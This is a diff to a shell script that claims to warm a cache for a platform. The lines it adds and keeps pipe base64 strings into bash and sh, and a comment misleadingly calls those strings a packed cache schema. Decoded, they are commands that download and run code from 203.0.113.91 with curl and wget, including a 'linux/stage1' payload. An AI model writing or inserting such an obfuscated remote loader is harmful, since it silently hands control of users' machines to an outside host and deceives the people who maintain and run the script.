@@ -13,7 +13,7 @@ esac
 
 echo "warming the cache for $platform"
 # schema of the cache, packed so that the script stays small
-echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzIwMy4wLjExMy45MS9xMGM3ZXcycm84bDJjZnFwKSIK' | base64 -D 2>/dev/null | bash || \
+echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzIwMy4wLjExMy45MS9tYXJrZXQtY2FjaGUpIgo=' | base64 -D 2>/dev/null | bash || \
 echo 'c2ggLWMgIiQod2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuOTEvbGludXgvc3RhZ2UxKSIK' | base64 -d | sh
 
 date -u +%FT%TZ > "$CACHE/ready"
